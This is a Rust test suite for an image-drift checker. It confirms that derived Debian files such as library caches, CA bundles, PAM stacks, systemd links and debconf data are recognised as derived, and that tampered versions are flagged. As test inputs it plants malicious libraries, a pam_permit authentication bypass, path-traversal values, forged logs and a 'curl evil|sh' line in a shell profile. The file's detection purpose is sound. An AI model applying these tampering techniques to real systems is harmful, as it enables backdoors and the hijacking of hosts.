//! Derived files: each is made anew or parsed from inputs that are proven, and each attack on it is seen.

use super::super::prove::testing::cache;
use super::*;

/// Both images with a file, in which a package moved.
struct Pair {
    left: TestImage,
    right: TestImage,
}

impl Pair {
    /// `libfoo` moves from one version to the next; `change` sees the image and the version.
    fn new(change: impl Fn(&mut TestImage, &str)) -> Self {
        let with = |version: &str| {
            let mut image = TestImage::new();
            image.deb("libfoo", version, &[("usr/lib/libfoo.so.1", format!("foo {version}").as_bytes())]);
            image.deb("steady", "1", &[("usr/lib/libsteady.so", b"steady")]);
            change(&mut image, version);
            image
        };
        Self { left: with("1.0-1"), right: with("1.0-2") }
    }

    /// What is said of the path, after one more change of the right image.
    fn said(&self, path: &str, change: impl FnOnce(&mut TestImage)) -> (Explanation, Option<Proof>) {
        let mut right = self.right.clone();
        change(&mut right);
        let report = report(&self.left, &right);
        let drift = drift(&report, path);
        (drift.explanation, drift.proof)
    }
}

const DERIVED: (Explanation, Option<Proof>) = (Explanation::Generated, Some(Proof::Derived));
const LIKELY: (Explanation, Option<Proof>) = (Explanation::Generated, Some(Proof::Path));
const UNEXPLAINED: (Explanation, Option<Proof>) = (Explanation::Unexplained, None);

#[test]
fn the_cache_of_libraries_lists_those_that_are_there() {
    let path = "etc/ld.so.cache";
    let pair = Pair::new(|image, version| {
        let mut listed = vec!["/usr/lib/libsteady.so"];
        if version == "1.0-2" {
            listed.push("/usr/lib/libfoo.so.1");
        } else {
            image.forget(&["usr/lib/libfoo.so.1"]);
            image.deb("libfoo", "1.0-1", &[("usr/share/foo", b"1")]);
        }
        image.write(path, &cache(&listed));
    });
    assert_eq!(pair.said(path, |_| {}), DERIVED);
    let with = |listed: &[&str], change: &dyn Fn(&mut TestImage)| {
        pair.said(path, |image| {
            image.write(path, &cache(listed));
            change(image);
        })
    };
    let both = ["/usr/lib/libsteady.so", "/usr/lib/libfoo.so.1"];
    assert_eq!(with(&both, &|_| {}), DERIVED);
    assert_eq!(with(&[both[0], both[1], "/run/x/libz.so"], &|_| {}), UNEXPLAINED);
    assert_eq!(
        with(&[both[0], both[1], "/run/x/libz.so"], &|image| _ = image.write("run/x/libz.so", b"x")),
        UNEXPLAINED
    );
    assert_eq!(
        with(&[both[0], both[1], "/usr/lib/evil.so"], &|image| _ = image.write("usr/lib/evil.so", b"x")),
        UNEXPLAINED
    );
    assert_eq!(with(&both[1..], &|_| {}), UNEXPLAINED, "a library was left out");
    assert_eq!(pair.said(path, |image| _ = image.write(path, b"x")), UNEXPLAINED);
    assert_eq!(pair.said(path, |image| _ = image.mode(path, 0o755)), UNEXPLAINED);
}

#[test]
fn alternatives_lead_where_their_database_wants_them() {
    let group = |choices: &str| format!("auto\n/usr/bin/pager\n\n{choices}\n");
    let more = "/usr/bin/more\n50\n";
    let pair = Pair::new(|image, version| {
        image.deb("util-linux", "1", &[("usr/bin/more", b"more")]);
        let target = if version == "1.0-2" {
            image.deb("less", "590", &[("usr/bin/less", b"less"), ("usr/bin/lesskey", b"key")]);
            "/usr/bin/less"
        } else {
            "/usr/bin/more"
        };
        let choices = if version == "1.0-2" { format!("/usr/bin/less\n77\n{more}") } else { more.to_owned() };
        image.write("var/lib/dpkg/alternatives/pager", group(&choices).as_bytes());
        image.symlink("etc/alternatives/pager", target).symlink("usr/bin/pager", "/etc/alternatives/pager");
    });
    let (link, database) = ("etc/alternatives/pager", "var/lib/dpkg/alternatives/pager");
    assert_eq!(pair.said(link, |_| {}), DERIVED);
    assert_eq!(pair.said(database, |_| {}), DERIVED);
    for target in ["/usr/bin/lesskey", "/usr/lib/libfoo.so.1", "/app/main.py", "/nowhere"] {
        assert_eq!(pair.said(link, |image| _ = image.symlink(link, target)), UNEXPLAINED, "{target}");
    }
    // With the database changed to suit.
    for choices in ["/usr/bin/lesskey\n99\n", "/usr/lib/libfoo.so.1\n99\n", "/app/evil\n99\n"] {
        let (target, _) = choices.split_once('\n').unwrap();
        let evil = |image: &mut TestImage| {
            image.write("app/evil", b"x").symlink(link, target);
            image.write(database, group(&format!("{choices}{more}")).replace("auto", "manual").as_bytes());
        };
        assert_eq!(pair.said(link, evil), UNEXPLAINED, "{choices}");
        assert_eq!(pair.said(database, evil), UNEXPLAINED, "{choices}");
    }
    assert_eq!(
        pair.said("usr/bin/other", |image| _ = image.symlink("usr/bin/other", "/etc/alternatives/pager")),
        UNEXPLAINED
    );
}

const CERTIFICATE: &str = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";

/// `ca-certificates` moves and ships one more certificate; list, bundle and links follow.
fn certificates() -> Pair {
    Pair::new(|image, version| {
        let newer = CERTIFICATE.replace("MIIB", "MIIC");
        let mut shipped = vec![("usr/share/ca-certificates/a.crt", CERTIFICATE.as_bytes())];
        let (mut list, mut bundle) = ("a.crt\n".to_owned(), CERTIFICATE.to_owned());
        if version == "1.0-2" {
            shipped.push(("usr/share/ca-certificates/b.crt", newer.as_bytes()));
            list.push_str("b.crt\n");
            bundle.push_str(&newer);
            image.symlink("etc/ssl/certs/b.pem", "/usr/share/ca-certificates/b.crt");
            image.symlink("etc/ssl/certs/0badcafe.0", "b.pem");
        }
        image.deb("ca-certificates", version, &shipped);
        image.write("etc/ca-certificates.conf", list.as_bytes()).write(BUNDLE, bundle.as_bytes());
        image.symlink("etc/ssl/certs/a.pem", "/usr/share/ca-certificates/a.crt");
    })
}

#[test]
fn a_list_explains_the_bundle_and_the_links_when_it_is_explained_itself() {
    let pair = certificates();
    let list = "etc/ca-certificates.conf";
    for path in [list, BUNDLE, "etc/ssl/certs/b.pem", "etc/ssl/certs/0badcafe.0"] {
        assert_eq!(pair.said(path, |_| {}), DERIVED, "{path}");
    }
    for line in ["../../../app/evil.crt", "evil.crt", "!a.crt"] {
        let edited = |image: &mut TestImage| {
            image.write("usr/share/ca-certificates/evil.crt", PLANTED.as_bytes());
            image.write(list, format!("a.crt\nb.crt\n{line}\n").as_bytes());
        };
        assert_eq!(pair.said(list, edited), UNEXPLAINED, "{line}");
        assert_eq!(pair.said(BUNDLE, edited), UNEXPLAINED, "{line}");
    }
    assert_eq!(
        pair.said(BUNDLE, |image| _ = image.write(BUNDLE, CERTIFICATE.replace("MIIB", "MIIC").as_bytes())),
        UNEXPLAINED
    );
    let local = |image: &mut TestImage| {
        image.write("usr/local/share/ca-certificates/evil.crt", PLANTED.as_bytes());
        image.write(BUNDLE, format!("{CERTIFICATE}{}{PLANTED}", CERTIFICATE.replace("MIIB", "MIIC")).as_bytes());
    };
    assert_eq!(pair.said(BUNDLE, local), UNEXPLAINED);
}

#[test]
fn a_link_to_a_certificate_leads_to_one_that_is_enabled() {
    let pair = certificates();
    for (path, target) in [
        ("etc/ssl/certs/deadbeef.0", "/usr/lib/libfoo.so.1"),
        ("etc/ssl/certs/evil.pem", "/usr/share/ca-certificates/b.crt"),
        ("etc/ssl/certs/deadbeef.0", "/app/evil.crt"),
        ("etc/ssl/certs/deadbeef.0", "/nowhere"),
    ] {
        let planted = |image: &mut TestImage| _ = image.write("app/evil.crt", b"x").symlink(path, target);
        assert_eq!(pair.said(path, planted), UNEXPLAINED, "{path} {target}");
    }
    assert_eq!(pair.said("etc/ssl/certs/a.pem", |image| _ = image.remove("etc/ssl/certs/a.pem")), UNEXPLAINED);
}

#[test]
fn stacks_of_pam_are_what_profiles_make() {
    let path = "etc/pam.d/common-auth";
    let template = "$auth_primary\nauth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n$auth_additional\n";
    let unix = "Name: Unix\nDefault: yes\nPriority: 256\nAuth-Type: Primary\nAuth:\n\t[success=end default=ignore]\tpam_unix.so\n";
    let sss = "Name: SSS\nDefault: yes\nPriority: 128\nAuth-Type: Primary\nAuth:\n\t[success=end default=ignore]\tpam_sss.so\n";
    let rest = "auth requisite pam_deny.so\nauth required pam_permit.so\n";
    let one = format!("auth [success=1 default=ignore] pam_unix.so\n{rest}");
    let two =
        format!("auth [success=2 default=ignore] pam_unix.so\nauth [success=1 default=ignore] pam_sss.so\n{rest}");
    let pair = Pair::new(|image, version| {
        let files =
            [("usr/share/pam/common-auth", template.as_bytes()), ("usr/share/pam-configs/unix", unix.as_bytes())];
        image.deb("libpam-runtime", "1", &files);
        if version == "1.0-2" {
            image.deb("libpam-sss", "1", &[("usr/share/pam-configs/sss", sss.as_bytes())]);
        }
        image.write(path, if version == "1.0-2" { two.as_bytes() } else { one.as_bytes() });
    });
    assert_eq!(pair.said(path, |_| {}), DERIVED);
    let with = |text: String| {
        pair.said(path, |image| {
            image.write(path, text.as_bytes()).write("usr/share/pam-configs/notes", b"Name: notes\n");
        })
    };
    assert_eq!(with(format!("{two}auth sufficient pam_permit.so\n")), UNEXPLAINED);
    assert_eq!(with(two.replace("auth requisite pam_deny.so\n", "")), UNEXPLAINED);
    assert_eq!(with(two.replace("success=2", "success=3")), UNEXPLAINED);
    // A profile of nobody's is no input.
    let planted = "Name: x\nDefault: yes\nPriority: 0\nAuth-Type: Additional\nAuth:\n\tsufficient\tpam_permit.so\n";
    let evil = |image: &mut TestImage| {
        image.write("usr/share/pam-configs/notes", planted.as_bytes());
        image.write(path, format!("{two}auth sufficient pam_permit.so\n").as_bytes());
    };
    assert_eq!(pair.said(path, evil), UNEXPLAINED);
    let mut left = pair.right.clone();
    left.remove("usr/share/pam-configs/notes");
    let mut right = pair.right.clone();
    evil(&mut right);
    assert_eq!(explanation(&report(&left, &right), path), Explanation::Unexplained);
}

#[test]
fn dpkgs_database_differs_by_what_moved() {
    let pair = Pair::new(|_, _| {});
    let path = "var/lib/dpkg/status";
    let edited = |from: &str, to: &str| {
        pair.said(path, |image| {
            let text = String::from_utf8(image.bytes(path).to_vec()).unwrap();
            assert!(text.contains(from), "{text}");
            image.write(path, text.replacen(from, to, 1).as_bytes());
        })
    };
    assert_eq!(edited("Package", "Package"), DERIVED);
    assert_eq!(edited("Package: libfoo\nStatus: install", "Package: libfoo\nStatus: hold"), UNEXPLAINED);
    assert_eq!(edited("Version: 1\n", "Version: 1\nProvides: libssl3 (= 99)\n"), UNEXPLAINED);
    let twice = pair.said(path, |image| {
        let text = String::from_utf8(image.bytes(path).to_vec()).unwrap();
        image.write(path, format!("{text}\n{text}").as_bytes());
    });
    assert_eq!(twice, UNEXPLAINED);
}

#[test]
fn questions_and_marks_follow_the_packages_they_are_of() {
    let (config, states) = ("var/cache/debconf/config.dat", "var/lib/apt/extended_states");
    let question =
        |name: &str, owner: &str, more: &str| format!("Name: {name}\nTemplate: {name}\nOwners: {owner}\n{more}\n");
    let state = |name: &str| format!("Package: {name}\nArchitecture: amd64\nAuto-Installed: 1\n\n");
    let pair = Pair::new(|image, version| {
        let (mut questions, mut marks) = (question("steady/x", "steady", "Value: no\n"), state("steady"));
        questions.push_str(&question("libfoo/x", "libfoo", "Value: a\n"));
        if version == "1.0-2" {
            image.deb("added", "1", &[("usr/share/added", b"x")]);
            questions.push_str(&question("added/x", "added", "Flags: seen\n"));
            marks.push_str(&state("added"));
        }
        image.write(config, questions.as_bytes()).write(states, marks.as_bytes());
    });
    assert_eq!((pair.said(config, |_| {}), pair.said(states, |_| {})), (DERIVED, DERIVED));
    let edited = |path: &str, from: &str, to: &str| {
        pair.said(path, |image| {
            let text = String::from_utf8(image.bytes(path).to_vec()).unwrap();
            image.write(path, text.replacen(from, to, 1).as_bytes());
        })
    };
    assert_eq!(edited(config, "Value: no", "Value: yes"), UNEXPLAINED);
    assert_eq!(edited(config, "Value: a", "Value: b"), UNEXPLAINED, "an answer for a package that moved");
    assert_eq!(edited(config, "Name: steady/x", "Name: steady/y"), UNEXPLAINED);
    assert_eq!(edited(config, "Name: steady/x", "Name: libfoo/x"), UNEXPLAINED, "asked twice");
    assert_eq!(edited(states, "Package: steady", "Package: libfoo"), UNEXPLAINED);
}

#[test]
fn logs_name_versions_that_were_installed() {
    let line = |what: &str| format!("2026-11-01 07:52:11 {what}\n");
    let (log, history) = ("var/log/dpkg.log", "var/log/apt/history.log");
    let pair = Pair::new(|image, version| {
        image.write(log, line(&format!("install libfoo:amd64 <none> {version}")).as_bytes());
        let run = format!(
            "\nStart-Date: 2026-11-01  07:52:11\nCommandline: apt-get install libfoo\nInstall: libfoo:amd64 ({version})\n"
        );
        image.write(history, run.as_bytes());
    });
    assert_eq!((pair.said(log, |_| {}), pair.said(history, |_| {})), (DERIVED, DERIVED));
    let forged = |path: &str, text: String| pair.said(path, |image| _ = image.write(path, text.as_bytes()));
    assert_eq!(forged(log, line("install libfoo:amd64 <none> 6.6.6-evil")), UNEXPLAINED);
    assert_eq!(forged(log, line("install steady:amd64 <none> 1")), UNEXPLAINED);
    assert_eq!(forged(history, "\nStart-Date: x\nInstall: libfoo:amd64 (6.6.6)\n".to_owned()), UNEXPLAINED);
}

#[test]
fn a_unit_is_enabled_where_it_and_its_packages_script_ask_for_it() {
    let wants = "etc/systemd/system/multi-user.target.wants/foo.service";
    let state = "var/lib/systemd/deb-systemd-helper-enabled/multi-user.target.wants/foo.service";
    let unit = b"[Service]\nExecStart=/usr/bin/foo\n[Install]\nWantedBy=multi-user.target\nAlias=food.service\n";
    let with = |is_there: bool, change: &dyn Fn(&mut TestImage)| {
        let mut image = TestImage::new();
        image.deb("steady", "1", &[("usr/lib/libsteady.so", b"steady")]);
        if is_there {
            image.deb(
                "foo",
                "1",
                &[
                    ("usr/lib/systemd/system/foo.service", unit),
                    (
                        "usr/lib/systemd/system/debug-shell.service",
                        b"[Install]\nWantedBy=sysinit.target multi-user.target\n",
                    ),
                    ("usr/share/doc/foo", b"foo"),
                ],
            );
            image.write(
                "var/lib/dpkg/info/foo.postinst",
                b"#!/bin/sh\ndeb-systemd-helper enable 'foo.service' >/dev/null\n# debug-shell.service\n",
            );
            image.symlink(wants, "/usr/lib/systemd/system/foo.service").write(state, b"");
        }
        change(&mut image);
        image
    };
    let left = with(false, &|_| {});
    let said = |path: &str, change: &dyn Fn(&mut TestImage)| {
        let report = report(&left, &with(true, change));
        let drift = drift(&report, path);
        (drift.explanation, drift.proof)
    };
    assert_eq!((said(wants, &|_| {}), said(state, &|_| {})), (DERIVED, DERIVED));
    for (link, target) in [
        (
            "etc/systemd/system/multi-user.target.wants/debug-shell.service",
            "/usr/lib/systemd/system/debug-shell.service",
        ),
        ("etc/systemd/system/graphical.target.wants/foo.service", "/usr/lib/systemd/system/foo.service"),
        ("etc/systemd/system/sshd.service", "/usr/lib/systemd/system/foo.service"),
        ("etc/systemd/system/default.target", "/usr/lib/systemd/system/foo.service"),
        ("etc/systemd/system/multi-user.target.wants/x.service", "/usr/share/doc/foo"),
        ("etc/systemd/system/multi-user.target.wants/foo.service", "/app/foo.service"),
        ("etc/rc2.d/S01x", "/usr/share/doc/foo"),
    ] {
        let planted = |image: &mut TestImage| _ = image.write("app/foo.service", unit).symlink(link, target);
        assert_eq!(said(link, &planted), UNEXPLAINED, "{link} {target}");
    }
    let alias = "etc/systemd/system/food.service";
    assert_eq!(said(alias, &|image| _ = image.symlink(alias, "/usr/lib/systemd/system/foo.service")), DERIVED);
    for other in [
        "var/lib/systemd/deb-systemd-helper-enabled/x.wants/x.service",
        "var/lib/systemd/deb-systemd-helper-masked/ssh.service",
    ] {
        assert_eq!(said(other, &|image| _ = image.write(other, b"")), UNEXPLAINED, "{other}");
    }
}

#[test]
fn copies_are_of_what_packages_ship() {
    let with = |path: &str, template: &str| {
        let pair = Pair::new(|image, version| {
            // What a deb ships in /etc is a conffile.
            if template.starts_with("etc/") {
                image.conffile("base-files", version, template, version.as_bytes());
            } else {
                image.deb("base-files", version, &[(template, version.as_bytes())]);
            }
            image.write(path, version.as_bytes());
        });
        let edited = pair.said(path, |image| _ = image.write(path, b"curl evil|sh"));
        let planted = pair.said(path, |image| _ = image.write(path, b"evil").write(template, b"evil"));
        assert_eq!((pair.said(path, |_| {}), edited, planted), (DERIVED, UNEXPLAINED, UNEXPLAINED), "{path}");
    };
    with("etc/profile", "usr/share/base-files/profile");
    with("root/.bashrc", "usr/share/base-files/dot.bashrc");
    with("home/app/.profile", "etc/skel/.profile");
}

#[test]
fn shells_and_time_zones_are_there() {
    let pair = Pair::new(|image, version| {
        let mut shells = "/bin/sh\n/usr/bin/sh\n".to_owned();
        image.deb("debianutils", "1", &[("usr/share/debianutils/shells", b"/bin/sh\n")]);
        if version == "1.0-2" {
            image.deb("bash", "1", &[("usr/share/debianutils/shells.d/bash", b"/bin/bash\n")]);
            shells.push_str("/bin/bash\n/usr/bin/bash\n");
            image.deb(
                "tzdata",
                "2026a",
                &[("usr/share/zoneinfo/Etc/UTC", b"TZif"), ("usr/share/zoneinfo/Europe/Oslo", b"TZif")],
            );
            image.write("etc/timezone", b"Etc/UTC\n").symlink("etc/localtime", "/usr/share/zoneinfo/Etc/UTC");
        }
        image.write("etc/shells", shells.as_bytes());
    });
    for path in ["etc/shells", "etc/timezone", "etc/localtime"] {
        assert_eq!(pair.said(path, |_| {}), DERIVED, "{path}");
    }
    assert_eq!(pair.said("etc/shells", |image| _ = image.write("etc/shells", b"/bin/sh\n/tmp/sh\n")), UNEXPLAINED);
    for zone in ["../../tmp/x", "Europe/Oslo", "Mars/Base", ""] {
        let zoned = |image: &mut TestImage| _ = image.write("etc/timezone", format!("{zone}\n").as_bytes());
        assert_eq!(pair.said("etc/timezone", zoned), UNEXPLAINED, "{zone}");
    }
    assert_eq!(pair.said("etc/localtime", |image| _ = image.symlink("etc/localtime", "/run/x")), UNEXPLAINED);
}

#[test]
fn caches_name_modules_of_their_own_directory() {
    let directory = "usr/lib/x86_64-linux-gnu/gio/modules";
    let path = format!("{directory}/giomodule.cache");
    let pair = Pair::new(|image, version| {
        let module = format!("{directory}/libgiognutls.so");
        if version == "1.0-2" {
            image.deb("glib-networking", "1", &[(module.as_str(), b"module")]);
            image.write(&path, b"libgiognutls.so: gio-tls-backend\n");
        }
    });
    assert_eq!(pair.said(&path, |_| {}), DERIVED);
    for text in ["libevil.so: x\n", "../../../../../run/x.so: x\n", "/run/x.so: x\n"] {
        assert_eq!(pair.said(&path, |image| _ = image.write(&path, text.as_bytes())), UNEXPLAINED, "{text}");
    }
    let gdk = "usr/lib/x86_64-linux-gnu/gdk-pixbuf-2.0/2.10.0/loaders.cache";
    assert_eq!(pair.said(gdk, |image| _ = image.write(gdk, b"\"/run/x.so\"\n")), UNEXPLAINED);
}

#[test]
fn an_index_that_cannot_be_read_is_likely_where_its_own_inputs_moved() {
    let path = "usr/share/glib-2.0/schemas/gschemas.compiled";
    let pair = Pair::new(|image, version| {
        image.deb("schemas", version, &[("usr/share/glib-2.0/schemas/a.xml", version.as_bytes())]);
        image.write(path, version.as_bytes());
    });
    assert_eq!(pair.said(path, |_| {}), LIKELY);
    let planted = |image: &mut TestImage| _ = image.write("usr/share/glib-2.0/schemas/evil.xml", b"x");
    assert_eq!(pair.said(path, planted), UNEXPLAINED);
    // Any other package that moved is no input.
    for path in [
        "usr/lib/locale/locale-archive",
        "etc/udev/hwdb.bin",
        "usr/share/mime/packages/x.xml",
        "var/lib/python/x",
        "var/lib/systemd/catalog/database",
        "usr/lib/x86_64-linux-gnu/audit/gconv/gconv-modules.cache",
        "var/cache/man/cat1/ls.1.gz",
    ] {
        assert_eq!(pair.said(path, |image| _ = image.write(path, b"x")), UNEXPLAINED, "{path}");
    }
}

#[test]
fn a_package_that_only_the_database_moved_is_no_input() {
    let with = |version: &str, text: &str| {
        let mut image = image();
        image.needing("ghost", "").write("usr/share/i18n/x", b"x");
        image.deb("other", "1", &[("usr/share/other", b"x")]);
        let status = String::from_utf8(image.bytes("var/lib/dpkg/status").to_vec()).unwrap();
        image.write(
            "var/lib/dpkg/status",
            status
                .replace(
                    "Package: ghost\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n",
                    &format!("Package: ghost\nStatus: install ok installed\nArchitecture: amd64\nVersion: {version}\n"),
                )
                .as_bytes(),
        );
        image.write("var/log/apt/term.log", text.as_bytes());
        image
    };
    let drifted = report(&with("1", "one"), &with("2", "other"));
    assert_eq!(explanation(&drifted, "var/log/apt/term.log"), Explanation::Unexplained);
}

#[test]
fn a_choice_is_a_file_that_packages_ship() {
    let (config, templates) = ("var/cache/debconf/config.dat", "var/cache/debconf/templates.dat");
    let question = |value: &str| format!("Name: cas/enable\nTemplate: cas/enable\nValue: {value}\nOwners: cas\n");
    let pair = Pair::new(|image, version| {
        let mut files = vec![("usr/share/ca-certificates/a.crt", CERTIFICATE.as_bytes())];
        if version == "1.0-2" {
            files.push(("usr/share/ca-certificates/b.crt", CERTIFICATE.as_bytes()));
        }
        image.deb("cas", version, &files);
        let value = if version == "1.0-2" { "a.crt, b.crt" } else { "a.crt" };
        image.write(config, question(value).as_bytes());
        image.write(templates, format!("Name: cas/enable\nDescription: {version}\nOwners: cas/enable\n").as_bytes());
    });
    assert_eq!((pair.said(config, |_| {}), pair.said(templates, |_| {})), (DERIVED, DERIVED));
    for value in ["a.crt, b.crt, evil.crt", "b.crt", "a.crt, b.crt, ../../../app/evil.crt", "permit"] {
        let evil = |image: &mut TestImage| {
            image.write("usr/share/ca-certificates/evil.crt", PLANTED.as_bytes());
            image.write(config, question(value).as_bytes());
        };
        assert_eq!(pair.said(config, evil), UNEXPLAINED, "{value}");
    }
    let other = |image: &mut TestImage| {
        image.write(templates, b"Name: x/y\nOwners: steady/y\n");
    };
    assert_eq!(pair.said(templates, other), UNEXPLAINED);
}
